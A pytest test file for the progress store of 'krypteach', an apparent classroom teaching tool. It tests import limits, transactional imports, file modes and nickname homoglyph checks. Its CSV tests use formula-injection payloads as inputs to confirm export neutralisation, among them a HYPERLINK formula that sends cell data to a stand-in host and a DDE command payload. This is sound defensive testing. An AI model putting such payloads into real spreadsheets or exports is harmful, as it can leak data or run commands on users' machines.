"""Issue 20: what an imported progress file may not do to the store, the CSV and the teacher's
page (findings 1, 3, 4, 6, 10, 12 and the store's part of 14). SQLite in memory or in tmp_path."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import time

import pytest

from krypteach.classroom.store import PROGRESS_FORMAT, NicknameError, ProgressStore, normalize_nickname
from krypteach.i18n import use_language

NOW = time.time()
GOOD = ["01", "a", "exercise", True, None, None, None, 1764590000.0]
SHAPE = "is not [lesson, item, kind, correct, rule, puzzle kind, score, time]"


@pytest.fixture
def store():
    s = ProgressStore(":memory:")
    yield s
    s.close()


def _file(nickname="Ann", items=None, attempts=()):
    return json.dumps({"format": PROGRESS_FORMAT, "nickname": nickname, "items": items or {},
                       "attempts": [list(a) for a in attempts]})


def _exactly(text):
    return "^" + re.escape(text) + "$"


# --- finding 3: values that broke the export or the import ------------------------------------------
@pytest.mark.parametrize("at", [1e300, -1e18, 1e20, float("inf"), float("-inf"), float("nan"), -1.0, NOW + 2 * 86_400],
                         ids=["1e300", "-1e18", "1e20", "Infinity", "-Infinity", "NaN", "before-1970", "two-days-ahead"])
def test_an_attempt_time_out_of_range_is_refused_naming_the_attempt(store, at):
    with pytest.raises(ValueError, match=_exactly(f"attempt 2 of the progress file {SHAPE}")):
        store.import_progress(_file(attempts=[GOOD, [*GOOD[:7], at]]), "K7")
    assert store.attempts() == [] and store.learners("K7") == []
    store.export_csv("K7")


@pytest.mark.parametrize("at", [0.0, 946684800.0, NOW, NOW + 86_000])
def test_an_attempt_time_in_range_is_kept(store, at):
    assert store.import_progress(_file(attempts=[[*GOOD[:7], at]]), "K7") == ("Ann", 1)
    assert len(store.export_csv("K7").splitlines()) == 2


@pytest.mark.parametrize("score", [10 ** 30, -10 ** 30, 10_001, -10_001])
def test_a_score_out_of_range_is_refused_naming_the_attempt(store, score):
    giv = ["07", "giv", "giv", None, None, None, score, 1764590000.0]
    with pytest.raises(ValueError, match=_exactly(f"attempt 1 of the progress file {SHAPE}")):
        store.import_progress(_file(attempts=[giv]), "K7")
    assert store.attempts() == []


@pytest.mark.parametrize("score", [10_000, -10_000, 0])
def test_a_score_in_range_is_kept(store, score):
    giv = ["07", "giv", "giv", None, None, None, score, 1764590000.0]
    assert store.import_progress(_file(attempts=[giv]), "K7") == ("Ann", 1)
    assert store.export_csv("K7").splitlines()[1].split(",")[7] == str(score)


def test_the_export_never_fails_on_a_stored_value(store):
    ann = store.join("K7", "Ann")
    for at in (1e20, -1e18, 1e300, 1764590000.0):  # record() is the kernels' own; these reach the table only so
        store.record(ann, "01", "a", "exercise", correct=True, at=at)
    with store._transaction() as cur:  # a score no import lets in, written straight to the table
        store._run(cur, "INSERT INTO attempts (learner_id, lesson, item, kind, score, at) VALUES (?, ?, ?, ?, ?, ?)",
                   (ann, "07", "giv", "giv", "=1+2", float("inf")))
    rows = list(csv.reader(io.StringIO(store.export_csv("K7"))))
    assert len(rows) == 1 + 5
    times = sorted(r[8] for r in rows[1:])
    assert "'-1e+18" in times and "1e+20" in times and "1e+300" in times and "inf" in times
    assert any(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", t) for t in times)
    assert [r[7] for r in rows[1:] if r[3] == "giv"] == ["'=1+2"]


# --- finding 4: formula-safe text in every cell ------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1)", "+lesson", "\t=1+2",
            "\r=1+2", "  =1+2", "-2+3", " @A1"]


@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "dde", "at-sum", "plus", "tab", "cr", "spaces", "minus",
                                                "space-at"])
def test_every_text_cell_of_the_csv_is_formula_safe(store, text):
    attempts = [[text[:80], text, "puzzle", False, text, text, None, 1764590000.0]]
    name = text if normalize_ok(text) else "Ann"
    store.import_progress(_file(nickname=name, attempts=attempts), "K7")
    row = list(csv.reader(io.StringIO(store.export_csv("K7"))))[1]
    nick, lesson, item, _kind, _correct, rule, topic = row[:7]
    for cell in (lesson, item, rule, topic) + ((nick,) if name == text else ()):
        assert cell.startswith("'"), (cell, row)
    assert (lesson, item, rule, topic) == ("'" + text[:80], "'" + text, "'" + text, "'" + text)


def normalize_ok(text):
    try:
        return normalize_nickname(text) == text
    except NicknameError:
        return False


@pytest.mark.parametrize(("text", "cell"), [("a=b", "a=b"), ("", ""), ("'=x", "'=x"), ("x\t=", "x\t=")])
def test_a_cell_that_runs_nothing_is_left_as_it_is(text, cell):
    from krypteach.classroom.store import _cell

    assert _cell(text) == cell


# --- finding 6: all or nothing ------------------------------------------------------------------------
def test_an_import_that_fails_midway_leaves_nothing_of_its_file(store, monkeypatch):
    bo = store.join("K7", "Bo")
    store.record(bo, "01", "a", "exercise", correct=True, at=1764580000.0)
    attempts = [["01", f"i{n}", "exercise", n % 2 == 0, None, None, None, 1764590000.0 + n] for n in range(50)]
    real, inserts = store._run, []

    def failing(cur, sql, args=()):
        if sql.startswith("INSERT INTO attempts"):
            inserts.append(args)
            if len(inserts) == 20:
                raise OSError("the disk went away")  # or a kill: the transaction is never committed
        return real(cur, sql, args)

    monkeypatch.setattr(store, "_run", failing)
    with pytest.raises(OSError, match="the disk went away"):
        store.import_progress(_file(attempts=attempts), "K7")
    monkeypatch.undo()
    assert len(inserts) == 20
    assert store.learners("K7") == [(bo, "Bo")] and [a[2] for a in store.attempts()] == ["a"]
    assert store.import_progress(_file(attempts=attempts), "K7") == ("Ann", 50)  # and it can be imported again


# --- finding 10: a file declares nothing -------------------------------------------------------------
def test_a_file_that_declares_items_changes_no_totals_in_any_class(store):
    store.declare_items("03", [("x1", "exercise"), ("x2", "exercise"), ("x3", "exercise"), ("x4", "exercise"),
                               ("q1", "selfcheck")])
    ann, cy = store.join("K7", "Ann"), store.join("K8", "Cy")
    store.record(ann, "03", "x1", "exercise", correct=True, at=1764590000.0)
    store.record(cy, "03", "x1", "exercise", correct=True, at=1764590000.0)
    items = {"03": {f"fake-{n}": "exercise" for n in range(200)}, "99": {"z": "selfcheck"}}
    assert store.import_progress(_file(nickname="Bo", items=items, attempts=[[*GOOD[:7], 1764590001.0]]), "K7")[1] == 1
    assert store.standing(ann).lessons["03"].text() == "1 of 5" and store.standing(cy).lessons["03"].text() == "1 of 5"
    assert store.overview("K8").grid[(cy, "03")].total == 5 and "99" not in store.overview("K7").lessons


def test_items_an_old_import_declared_stop_counting_and_a_lessons_own_count_again(tmp_path):
    """A database of schema 2, where an older krypteach let an imported file declare 500 items
    for lesson 03 (every learner's bar read "0 of 505"): after the upgrade no old item counts,
    and the lesson's own five count again as soon as a page of the lesson declares them."""
    import sqlite3

    from krypteach.classroom.store import SCHEMA_VERSION

    path = tmp_path / "old.sqlite3"
    s = ProgressStore(path)
    ann = s.join("K7", "Ann")
    s.record(ann, "03", "x1", "exercise", correct=True, at=1764590000.0)
    s.close()
    con = sqlite3.connect(path)  # the database as schema 2 left it: items without a declared time
    con.execute("DELETE FROM krypteach_schema WHERE version > 2")
    for column in ("how", "answer", "expected"):  # (schema 4's)
        con.execute(f"ALTER TABLE attempts DROP COLUMN {column}")
    con.execute("DROP TABLE games")  # (schema 5's)
    con.execute("ALTER TABLE items DROP COLUMN title")  # (schema 6's)
    for column in ("seen_at", "seen_lesson"):  # (schema 7's)
        con.execute(f"ALTER TABLE learners DROP COLUMN {column}")
    con.execute("ALTER TABLE attempts DROP COLUMN themes")  # (schema 8's)
    con.execute("DROP TABLE homework")
    con.execute("DROP TABLE tournament_givar")  # (schema 9's)
    con.execute("DROP TABLE tournaments")
    con.execute("CREATE TABLE old_items AS SELECT lesson, item, kind FROM items")
    con.execute("DROP TABLE items")
    con.execute("CREATE TABLE items (lesson TEXT NOT NULL, item TEXT NOT NULL, kind TEXT NOT NULL, "
                "PRIMARY KEY (lesson, item))")
    con.executemany("INSERT INTO items VALUES ('03', ?, 'exercise')",
                    [(f"x{n}",) for n in range(1, 5)] + [("q1",)] + [(f"fake-{n}",) for n in range(500)])
    con.commit()
    con.close()
    s = ProgressStore(path)
    assert s.schema_version() == SCHEMA_VERSION
    assert s.standing(ann).lessons["03"].text() == "1 solved"   # no total until a page says what 03 holds
    s.declare_items("03", [("x1", "exercise"), ("x2", "exercise"), ("x3", "exercise"), ("x4", "exercise"),
                           ("q1", "selfcheck")])
    assert s.standing(ann).lessons["03"].text() == "1 of 5"
    assert s.overview("K7").grid[(ann, "03")].total == 5
    s.close()


def test_a_file_that_declares_500_items_for_a_lesson_is_refused_saying_so(store):
    items = {"03": {f"fake-{n}": "exercise" for n in range(500)}}
    with pytest.raises(ValueError, match=_exactly("the progress file declares 500 items for '03'; at most 200 a lesson")):
        store.import_progress(_file(items=items), "K7")
    with use_language("sv"), pytest.raises(ValueError, match="500 uppgifter för"):
        store.import_progress(_file(items=items), "K7")


# --- finding 1: one file cannot make the teacher's page heavy ----------------------------------------
def test_a_file_with_1000_lessons_is_refused_with_one_line(store):
    attempts = [[f"L{n:04}", "a", "exercise", False, None, None, None, 1764590000.0 + n] for n in range(1000)]
    with pytest.raises(ValueError, match=_exactly("the progress file holds 1,000 lessons; at most 50 are read")):
        store.import_progress(_file(attempts=attempts), "K7")
    with use_language("sv"), pytest.raises(ValueError, match=_exactly(
            "framstegsfilen har 1\u00a0000 lektioner; högst 50 läses")):
        store.import_progress(_file(attempts=attempts), "K7")
    items = {f"L{n:04}": {} for n in range(1000)}
    with pytest.raises(ValueError, match=_exactly("the progress file holds 1,000 lessons; at most 50 are read")):
        store.import_progress(_file(items=items), "K7")
    assert store.attempts() == [] and store.learners("K7") == []


def test_files_that_would_give_one_learner_too_many_lessons_are_refused(store):
    first = [[f"A{n:02}", "a", "exercise", True, None, None, None, 1764590000.0 + n] for n in range(30)]
    second = [[f"B{n:02}", "a", "exercise", True, None, None, None, 1764590000.0 + n] for n in range(30)]
    assert store.import_progress(_file(attempts=first), "K7") == ("Ann", 30)
    with pytest.raises(ValueError, match=_exactly("Ann would have 60 lessons with this file; at most 50 are kept "
                                                  "for one learner")):
        store.import_progress(_file(attempts=second), "K7")
    assert len(store.attempts()) == 30


def test_the_overview_shows_at_most_60_lessons_the_lessons_own_first(store):
    store.declare_items("03", [("x", "exercise")])
    for n in range(30):
        who = store.join("K7", f"L{n}")
        for k in range(4):
            store.record(who, f"Z{n:02}{k}", "a", "exercise", correct=False, at=1764590000.0 + k)
    store.record(store.join("K7", "L0"), "Z000", "b", "exercise", correct=False, at=1764590009.0)
    view = store.overview("K7")
    assert len(view.lessons) == 60 and view.lessons_left_out == 121 - 60
    assert "03" in view.lessons and "Z000" in view.lessons  # declared, then the most tried
    assert len(view.grid) == 30 * 60


# --- finding 12 is tests/test_store_mutants.py::test_a_folder_in_the_files_place_is_refused_and_left_where_it_is


# --- finding 14: the file's mode, and nicknames --------------------------------------------------------
def test_the_progress_file_and_its_wal_and_shm_are_its_owners_only(tmp_path):
    old = os.umask(0o022)
    try:
        path = tmp_path / "progress.sqlite3"
        s = ProgressStore(path)
        s.record(s.join("K7", "Ann"), "01", "a", "exercise", correct=True)
        for p in (path, tmp_path / "progress.sqlite3-wal", tmp_path / "progress.sqlite3-shm"):
            assert stat.S_IMODE(os.stat(p).st_mode) == 0o600, p
        s.close()
        older = tmp_path / "older.sqlite3"
        ProgressStore(older).close()
        older.chmod(0o644)
        ProgressStore(older).close()
        assert stat.S_IMODE(os.stat(older).st_mode) == 0o600
    finally:
        os.umask(old)


@pytest.mark.parametrize("name", ["\u3164", "\u3164\u3164", " \u3164 ", "\u2800", "\uffa0", "\u115f\u1160"],
                         ids=["hangul-filler", "two-fillers", "spaced", "braille-blank", "halfwidth-filler", "jamo"])
def test_an_invisible_only_nickname_is_refused(name):
    with pytest.raises(NicknameError, match=_exactly("a nickname needs a letter, digit or sign that can be seen")):
        normalize_nickname(name)


def test_nicknames_are_nfkc():
    assert normalize_nickname("\uff21\uff4e\uff4e") == "Ann"      # fullwidth
    assert normalize_nickname("\ufb01ona") == "fiona"              # the fi ligature
    assert normalize_nickname("A\u0301sa") == "\u00c1sa"


@pytest.mark.parametrize("look_alike", ["\u0410nn", "\u0391nn", "\u0410\u200dnn"],
                         ids=["cyrillic-A", "greek-alpha", "cyrillic-A-with-joiner"])
def test_a_nickname_that_looks_like_one_in_the_class_is_refused(store, look_alike):
    ann = store.join("K7", "Ann")
    with pytest.raises(NicknameError, match=_exactly(f"the nickname {normalize_nickname(look_alike)} looks like Ann, "
                                                     "who is already in the class: choose another")):
        store.join("K7", look_alike)
    with pytest.raises(ValueError, match="looks like Ann"):
        store.import_progress(_file(nickname=look_alike), "K7")
    assert store.learners("K7") == [(ann, "Ann")]
    assert store.join("K8", look_alike) != ann          # another class has no Ann
    assert store.join("K7", "Ann") == ann and store.join("K7", "Anna") != ann and store.join("K7", "\u00c5nn") != ann


def test_the_teachers_page_says_how_many_lessons_it_leaves_out(store):
    from krypteach.serve.teacher import teacher_page

    ann = store.join("K7", "Ann")
    for n in range(1000):
        store.record(ann, f"L{n:04}", "a", "exercise", correct=True, at=1764590000.0 + n)
    view = store.overview("K7")
    assert view.lessons_left_out == 940
    html = teacher_page(view, "K7", "", {})
    assert "940 more lessons are not shown here (too many lessons); the CSV has every attempt." in html
    assert html.count("<th>L0") == 60
    with use_language("sv"):
        assert "940 lektioner till visas inte här (för många lektioner); CSV-filen har varje försök." in teacher_page(
            view, "K7", "", {})


def test_the_teachers_work_runs_off_the_event_loop_in_the_requests_language():
    import asyncio
    import concurrent.futures
    import threading

    from krypteach.i18n import language, set_task_language
    from krypteach.serve.offload import off_the_loop

    async def request():
        set_task_language("sv")
        return await off_the_loop(lambda: (threading.get_ident(), language()))

    loop_thread = threading.get_ident()
    # in a thread of its own: a browser test earlier in the run may leave an event loop running here
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        worker, lang = pool.submit(asyncio.run, request()).result()
    assert worker != loop_thread and lang == "sv"


def test_a_folder_that_takes_no_file_is_one_line_not_a_traceback(tmp_path, monkeypatch):
    # issue 20, finding 14: a read-only progress folder ended in a raw FileNotFoundError from the move aside
    import krypteach.classroom.store as store_module
    from krypteach.classroom.store import StoreError

    path = tmp_path / "p.sqlite3"
    monkeypatch.setattr(store_module, "_owner_only", lambda p: None)           # the file cannot be made
    monkeypatch.setattr(ProgressStore, "_open_sqlite", lambda self, p: None)    # nor opened by SQLite
    with pytest.raises(StoreError, match=_exactly(f"cannot open a new progress file at {path}")):
        ProgressStore(path)
    assert list(tmp_path.iterdir()) == []


def test_a_database_of_schema_3_keeps_its_attempts_and_then_keeps_how_and_the_answers(tmp_path):
    """Schema 4 adds how an answer was reached, the answer and the right one: the attempts of a
    database from before stay as they were (with none of the three), and new ones keep all three."""
    import sqlite3

    from krypteach.classroom.store import SCHEMA_VERSION

    path = tmp_path / "old.sqlite3"
    s = ProgressStore(path)
    ann = s.join("K7", "Ann")
    s.record(ann, "06", "count", "exercise", correct=True, at=1764590000.0)
    s.close()
    con = sqlite3.connect(path)  # the database as schema 3 left it
    con.execute("DELETE FROM krypteach_schema WHERE version > 3")
    for column in ("how", "answer", "expected"):
        con.execute(f"ALTER TABLE attempts DROP COLUMN {column}")
    con.execute("DROP TABLE games")  # (schema 5's)
    con.execute("ALTER TABLE items DROP COLUMN title")  # (schema 6's)
    for column in ("seen_at", "seen_lesson"):  # (schema 7's)
        con.execute(f"ALTER TABLE learners DROP COLUMN {column}")
    con.execute("ALTER TABLE attempts DROP COLUMN themes")  # (schema 8's)
    con.execute("DROP TABLE homework")
    con.execute("DROP TABLE tournament_givar")  # (schema 9's)
    con.execute("DROP TABLE tournaments")
    con.commit()
    con.close()
    s = ProgressStore(path)
    assert s.schema_version() == SCHEMA_VERSION == 9
    s.record(ann, "06", "count", "exercise", correct=False, at=1764590001.0, how="first-try", answer="12",
             expected="14")
    assert [a[8:] for a in s.attempts(ann)] == [(1764590000.0, None, None, None),
                                               (1764590001.0, "first-try", "12", "14")]
    assert s.standing(ann).lessons["06"].tried == 2
    s.close()
